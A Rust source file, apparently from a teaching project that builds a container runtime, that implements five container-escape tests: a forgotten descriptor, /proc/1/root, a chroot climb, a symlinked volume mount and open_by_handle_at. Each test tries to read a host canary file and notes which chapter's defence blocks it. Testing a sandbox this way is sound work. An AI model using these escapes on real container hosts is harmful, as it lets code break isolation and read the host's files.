//! Attacks on the host's files: ways out of a root directory.

use std::fs::{self, File};
use std::io::Read;
use std::os::fd::{AsFd, AsRawFd};
use std::os::unix::fs::symlink;
use std::path::Path;

use nix::fcntl::{FcntlArg, FdFlag, fcntl};
use nix::unistd::{chdir, chroot};
use process::{Error, Result, Step};

use super::processes::{mount_proc, number};
use crate::attack::sandbox::{CANARY, IMAGE};
use crate::attack::{Attack, Finding, sys};

/// What a file of the host has been read as.
const A_FILE: &str = "a file of the host";

pub const DESCRIPTOR: Attack = Attack {
    name: "descriptor",
    title: "use a forgotten descriptor",
    tries: "the runtime was started with a directory of the host open, by accident. Look \
            through the descriptors for one from which a host's file can be opened.",
    why: "the process closes what it has inherited before it executes the command. runc \
          forgot one in 2024, which was enough to leave any container.",
    reference: "CVE-2024-21626, close_range(2)",
    stopped_by: 0,
    run: |target| {
        let root = File::open("/").step(|| "open /")?;
        // What is not closed on exec is what our children inherit.
        fcntl(&root, FcntlArg::F_SETFD(FdFlag::empty())).step(|| "let / be inherited")?;
        let said = target.attack::<&str>(&[], &[&root.as_raw_fd().to_string()])?;
        Ok(said.has_read(target.secret, A_FILE))
    },
    inside: |_| {
        let find = |fd| sys::open_from(fd, "canary").ok();
        let canary = (3..1024).find_map(find).ok_or_else(|| Error::new("no such descriptor"))?;
        read(File::from(canary))
    },
};

pub const PROC_ROOT: Attack = Attack {
    name: "proc-root",
    title: "read a file through /proc/1/root",
    tries: "mount a /proc, and follow the link to the root directory of process 1.",
    why: "as long as process 1 is the host's, its root is too, whatever our own root is. In a \
          PID namespace of its own the container's process 1 has the container's root.",
    reference: "proc_pid_root(5)",
    stopped_by: 2,
    run: |target| Ok(target.attack::<&str>(&[], &[])?.has_read(target.secret, A_FILE)),
    inside: |_| {
        mount_proc();
        read_path(&format!("/proc/1/root{CANARY}"))
    },
};

pub const CHROOT: Attack = Attack {
    name: "chroot",
    title: "climb out of the root directory",
    tries: "chroot into a directory below without going there, so that the working directory \
            is outside of the root, and climb up with `..`.",
    why: "chroot only moves where a lookup begins; `..` ends at the root only if one comes by \
          it. After pivot_root the host's files are not mounted any more, there is \
          nothing to climb to.",
    reference: "chroot(2), pivot_root(2)",
    stopped_by: 3,
    run: |target| Ok(target.attack::<&str>(&[], &[])?.has_read(target.secret, A_FILE)),
    inside: |_| {
        fs::create_dir_all("/tmp/hole").step(|| "create /tmp/hole")?;
        chroot("/tmp/hole").step(|| "chroot to /tmp/hole")?;
        for _ in 0..32 {
            chdir("..").step(|| "climb up")?;
        }
        chroot(".").step(|| "chroot to where the climb ended")?;
        read_path(CANARY)
    },
};

pub const SYMLINK: Attack = Attack {
    name: "symlink",
    title: "misguide a volume with a link",
    tries: "have a symbolic link in the image that leads out of it, and wait for somebody \
            to mount a volume below it: `-v /vol:/link/made`.",
    why: "the runtime, which is the host's root, makes the mount point. It looks the path up \
          with the image as the root, so that an absolute link stays inside.",
    reference: "openat2(2): RESOLVE_IN_ROOT, CVE-2021-30465",
    stopped_by: 3,
    run: |target| {
        if target.chapter.number < 3 {
            return Ok(Finding::NotApplicable("there are no volumes before chapter 3".into()));
        }
        let (link, victim) = (Path::new(IMAGE).join("link"), Path::new("/victim"));
        // The same name inside, for the link to lead somewhere in any case.
        let inside = Path::new(IMAGE).join("victim");
        for dir in [victim, &inside] {
            fs::create_dir(dir).step(|| format!("create {}", dir.display()))?;
        }
        symlink("/../../../../victim", &link).step(|| "link /image/link")?;
        let said = target.attack::<&str>(&["-v", "/vol:/link/made"], &[]);
        let is_made = victim.join("made").exists();
        fs::remove_file(&link).step(|| "remove /image/link")?;
        fs::remove_dir_all(victim).step(|| "remove /victim")?;
        fs::remove_dir_all(&inside).step(|| "remove /image/victim")?;
        match said {
            Ok(said) => Ok(said.judged(is_made, "a directory was made on the host")),
            Err(_) if is_made => Ok(Finding::Works("a directory was made on the host".into())),
            Err(error) => Ok(Finding::Blocked(error.to_string())),
        }
    },
    inside: |_| Err(Error::new("the link led to a directory of the image")),
};

pub const HANDLE: Attack = Attack {
    name: "handle",
    title: "open a file by its number",
    tries: "open_by_handle_at takes a file's number in place of a path, and any mount of the \
            same file system: a volume is one. Numbers can be guessed.",
    why: "no path, so no root directory to stay in. The kernel asks for CAP_DAC_READ_SEARCH \
          over the whole file system, which root of a user namespace does not have; chapter 9 \
          drops it and forbids the call.",
    reference: "open_by_handle_at(2), the \"shocker\" exploit of 2014",
    stopped_by: 8,
    run: |target| {
        let (kind, bytes) = sys::handle_of(c"/canary").step(|| format!("number {CANARY}"))?;
        let bytes: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
        let volume: &[&str] = if target.chapter.number < 3 { &[] } else { &["-v", "/vol:/vol"] };
        let door = if volume.is_empty() { "/" } else { "/vol" };
        let said = target.attack(volume, &[&kind.to_string(), door, &bytes])?;
        Ok(said.has_read(target.secret, A_FILE))
    },
    inside: |words| {
        let kind = number(words)? as i32;
        let (door, digits) = (&words[1], &words[2]);
        let byte = |at| u8::from_str_radix(digits.get(at..at + 2).unwrap_or_default(), 16).ok();
        let bytes: Vec<u8> = (0..digits.len()).step_by(2).filter_map(byte).collect();
        let door = File::open(door).step(|| format!("open {door}"))?;
        let file =
            sys::open_by_handle(door.as_fd(), kind, &bytes).step(|| "open a file by its number")?;
        read(File::from(file))
    },
};

fn read(mut file: File) -> Result<String> {
    let mut text = String::new();
    file.read_to_string(&mut text).step(|| "read the file")?;
    Ok(text)
}

fn read_path(path: &str) -> Result<String> {
    fs::read_to_string(path).step(|| format!("read {path}"))
}
